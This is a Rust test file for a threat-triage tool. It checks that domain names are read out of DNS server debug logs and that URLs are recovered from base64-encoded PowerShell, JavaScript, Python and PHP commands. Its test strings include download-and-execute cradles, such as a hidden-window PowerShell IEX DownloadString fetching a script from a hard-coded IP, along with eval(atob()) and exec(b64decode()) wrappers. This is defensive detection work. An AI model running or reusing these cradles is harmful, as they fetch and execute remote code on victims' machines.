//! What a text holds in another writing: names in the debug log of a DNS server, commands in base64.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use vtriage::inside::{self, Findings, Options};

use crate::cases::only;

fn found(text: &str) -> Findings {
    inside::text(text, &Options::default())
}

/// A text as PowerShell takes it: base64 of UTF-16.
fn wide(text: &str) -> String {
    STANDARD.encode(text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())
}

#[test]
fn names_in_the_debug_log_of_a_dns_server_are_read() {
    only(
        "1/2/2026 9:00:01 AM 0A1C PACKET  00000 UDP Rcv 10.20.3.4  a1b2   Q [0001   D   NOERROR] A      (6)badmsd(3)top(0)",
        &["badmsd.top"],
    );
    only(
        "A (3)www(9)evil-host(3)top(0)\nAAAA (2)c2(9)evil-host(3)top(0)\n",
        &["c2.evil-host.top", "www.evil-host.top"],
    );
    only("PTR (2)12(2)98(2)17(2)46(7)in-addr(4)arpa(0)", &["12.98.17.46.in-addr.arpa"]);
    only("see (5)badmsd(3)top(0) and (3)top(0) and f(0)", &[]);
}

#[test]
fn what_an_encoded_command_holds_is_read_and_says_where_it_was() {
    let url = "http://185.220.101.45/a.ps1";
    let command = wide(&format!("IEX (New-Object Net.WebClient).DownloadString('{url}')"));
    let plain = STANDARD.encode(format!("fetch('{url}')"));
    for text in [
        format!("powershell -enc {command}"),
        format!("powershell.exe -nop -w hidden -EncodedCommand {command}"),
        format!("cmd /c pwsh /e \"{command}\""),
        format!("{{\"cmd\": \"powershell -ec {command}\"}}"),
        format!("eval(atob('{plain}'))"),
        format!("<html><body><script>eval(atob('{plain}'))</script></body></html>"),
        format!("<html><body onload=\"eval(atob('{plain}'))\"></body></html>"),
        format!("[Convert]::FromBase64String(\"{command}\")"),
        format!("[Convert]::FromBase64String('{plain}')"),
        format!("exec(base64.b64decode(b'{plain}'))"),
        format!("eval(base64_decode(\"{plain}\"));"),
        format!("powershell -enc {}", wide(&format!("powershell -enc {command}"))),
    ] {
        let found = found(&text);
        let ticked: Vec<_> = found.items.iter().filter(|item| item.ticked).collect();
        assert_eq!(ticked.iter().map(|item| item.indicator.value()).collect::<Vec<_>>(), [url], "{text}");
        assert!(ticked[0].remark.starts_with("in an encoded command"), "{:?}", ticked[0]);
        assert_eq!((ticked[0].line, found.remarks.len()), (1, 0), "{text}");
    }
}

#[test]
fn an_encoded_command_that_is_not_read_is_said() {
    let bytes: String = STANDARD.encode((0..=255_u8).collect::<Vec<u8>>());
    let said = "1 encoded command was not read: what is in it is no text, or too much, or too deep";
    assert_eq!(found(&format!("powershell -enc {bytes}")).remarks, [said]);
    let mut deep = "IEX 'http://185.220.101.45/a.ps1'".to_owned();
    for _ in 0..6 {
        deep = format!("powershell -enc {}", wide(&deep));
    }
    assert_eq!(found(&deep).remarks, [said]);
    let long = STANDARD.encode("x".repeat(2 << 20));
    assert_eq!(found(&format!("atob('{long}')")).remarks, [said]);
    let several = format!("atob('{bytes}') atob('{bytes}')");
    assert_eq!(
        found(&several).remarks,
        ["2 encoded commands were not read: what is in them is no text, or too much, or too deep"]
    );
    for text in ["powershell -e", "grep -e pattern file", "atob('')", "atob(x)", "ls -e dGVzdA=="] {
        assert_eq!(found(text).remarks, Vec::<String>::new(), "{text}");
    }
}
